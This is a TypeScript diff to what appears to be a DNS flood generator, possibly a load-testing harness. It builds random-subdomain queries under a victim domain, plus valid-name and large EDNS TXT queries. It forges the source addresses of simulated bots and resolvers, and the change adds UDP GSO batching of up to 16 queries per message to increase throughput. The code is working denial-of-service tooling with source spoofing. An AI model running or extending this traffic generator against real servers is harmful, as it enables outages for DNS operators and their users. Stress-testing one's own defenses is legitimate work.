@@ -39,40 +39,58 @@ let victimSuffix: Uint8Array = new Uint8Array(0);
 let validNames: Uint8Array[] = [];
 let bigNames: Uint8Array[] = [];
 const LABEL_CHARS = Uint8Array.from('abcdefghijklmnopqrstuvwxyz0123456789', (c) => c.charCodeAt(0));
-const SLOT = 160;
+/** Room per message: one query, or a GSO run of up to MAX_GSO random-subdomain queries. */
+const SLOT = 1024;
+const MAX_GSO = 16;
 const batch = new Uint8Array(NATIVE_BATCH * SLOT);
 const offsets = Uint32Array.from({ length: NATIVE_BATCH }, (_, i) => i * SLOT);
 const lengths = new Uint16Array(NATIVE_BATCH);
+const segs = new Uint16Array(NATIVE_BATCH);
 const srcs = new Uint32Array(NATIVE_BATCH);
 const srcHost = new Uint32Array(NATIVE_BATCH);
 const nameBuf = new Uint8Array(256);
+/** Random-subdomain queries per GSO message (1: no GSO). */
+let gso = 1;
 
-/** Writes one attack query of `kind` in slot i; sets its source. */
-function build(i: number, kind: number): void {
-  const cfg = init!;
+/** Writes one random-subdomain query of `kind` at `at`; returns its length. */
+function writeRandomSubdomain(at: number, kind: number): number {
+  nameBuf[0] = 12;
+  for (let j = 1; j <= 12; j++) nameBuf[j] = LABEL_CHARS[Math.floor(rnd() * 36)];
+  nameBuf.set(victimSuffix, 13);
   const id = (kind << 14) | Math.floor(rnd() * 16384);
-  let name: Uint8Array;
-  let qtype = 1;
-  let edns: { size: number } | undefined;
+  return writeQuery(batch, at, id, nameBuf.subarray(0, 13 + victimSuffix.length), 1);
+}
+
+/**
+ * Writes message i of `kind` and sets its source; returns how many datagrams it holds (a GSO
+ * run of `gso` random-subdomain queries of equal length, all from one source, or one query).
+ */
+function build(i: number, kind: number, room: number): number {
+  const cfg = init!;
+  const at = i * SLOT;
+  let count = 1;
+  segs[i] = 0;
   if (kind === 0 || kind === 1) {
-    nameBuf[0] = 12;
-    for (let j = 1; j <= 12; j++) nameBuf[j] = LABEL_CHARS[Math.floor(rnd() * 36)];
-    nameBuf.set(victimSuffix, 13);
-    name = nameBuf.subarray(0, 13 + victimSuffix.length);
-  } else if (kind === 2) {
-    name = validNames[Math.floor(rnd() * validNames.length)];
+    count = Math.max(1, Math.min(gso, room));
+    let len = 0;
+    for (let j = 0; j < count; j++) len = writeRandomSubdomain(at + j * len, kind);
+    lengths[i] = len * count;
+    if (count > 1) segs[i] = len;
   } else {
-    name = bigNames[Math.floor(rnd() * bigNames.length)];
-    qtype = 16;
-    edns = { size: 4096 };
+    const id = (kind << 14) | Math.floor(rnd() * 16384);
+    const large = kind === 3;
+    const name = large
+      ? bigNames[Math.floor(rnd() * bigNames.length)]
+      : validNames[Math.floor(rnd() * validNames.length)];
+    lengths[i] = writeQuery(batch, at, id, name, large ? 16 : 1, large ? { size: 4096 } : undefined);
   }
-  lengths[i] = writeQuery(batch, i * SLOT, id, name, qtype, edns);
   const src =
     kind === 0 && cfg.resolverAddresses.length > 0
       ? cfg.resolverAddresses[Math.floor(rnd() * cfg.resolverAddresses.length)]
       : botAddress(Math.floor(rnd() * cfg.bots));
   srcHost[i] = src;
   srcs[i] = toNetworkOrder(src);
+  return count;
 }
 
 function pickKind(): number {
@@ -88,27 +106,42 @@ let dstNet = 0;
 const nodeSockets = new Map<number, Socket>();
 let nodeSources: number[] = [];
 
-function sendBatch(n: number): number {
+/** Sends up to `budget` datagrams in one batch of messages; returns how many went out. */
+function sendBatch(budget: number): number {
   const kinds: number[] = [];
-  for (let i = 0; i < n; i++) {
+  const counts: number[] = [];
+  let msgs = 0;
+  let planned = 0;
+  while (msgs < NATIVE_BATCH && planned < budget) {
     const k = pickKind();
     kinds.push(k);
-    build(i, k);
+    const c = build(msgs, k, budget - planned);
+    counts.push(c);
+    planned += c;
+    msgs++;
   }
   const cfg = init!;
-  let k = 0;
+  let taken = 0;
   if (addon) {
-    k = addon.send(fd, cfg.family, dstNet, cfg.port, batch, offsets, lengths, srcs, n);
-    if (k < 0) k = 0;
+    taken = addon.send(fd, cfg.family, dstNet, cfg.port, batch, offsets, lengths, srcs, msgs, segs);
+    if (taken < 0 && gso > 1) {
+      // The kernel refused GSO: send one datagram per message from now on.
+      gso = 1;
+    }
+    if (taken < 0) taken = 0;
   } else {
-    for (let i = 0; i < n; i++) {
+    for (let i = 0; i < msgs; i++) {
       const s = nodeSockets.get(srcHost[i]) ?? nodeSockets.get(nodeSources[i % nodeSources.length]);
       s?.send(batch.subarray(i * SLOT, i * SLOT + lengths[i]), cfg.port, cfg.host);
     }
-    k = n;
+    taken = msgs;
   }
-  for (let i = 0; i < k; i++) sent[kinds[i]]++;
-  return k;
+  let datagrams = 0;
+  for (let i = 0; i < taken; i++) {
+    sent[kinds[i]] += counts[i];
+    datagrams += counts[i];
+  }
+  return datagrams;
 }
 
 function onNodeAnswer(m: Buffer): void {
@@ -171,12 +204,11 @@ function loop(): void {
   }
   let budget = Math.min(due, 4096, cfg.maxPackets - total);
   while (budget > 0) {
-    const n = Math.min(NATIVE_BATCH, budget);
-    const k = sendBatch(n);
+    const k = sendBatch(budget);
     phaseSent += k;
     total += k;
     budget -= k;
-    if (k < n) break;
+    if (k === 0) break;
   }
   if (total >= cfg.maxPackets) {
     stop('packet budget');
@@ -324,6 +356,7 @@ process.on('message', async (msg: { type: string } & Record<string, unknown>) =>
         dstNet = cfg.family === 6 ? 0 : toNetworkOrder(ipv4ToNumber(cfg.host));
       }
     }
+    if (addon) gso = Math.max(1, Math.min(MAX_GSO, Math.floor(cfg.gso)));
     if (!addon) {
       if (cfg.io === 'native') {
         process.send?.({
@@ -340,7 +373,7 @@ process.on('message', async (msg: { type: string } & Record<string, unknown>) =>
     }
     process.send?.({
       type: 'ready',
-      io: addon ? 'native' : 'node',
+      io: addon ? (gso > 1 ? `native-gso${gso}` : 'native') : 'node',
       sources: addon ? cfg.bots + cfg.resolverAddresses.length : nodeSockets.size,
     });
     setInterval(() => report('stats'), 200).unref();
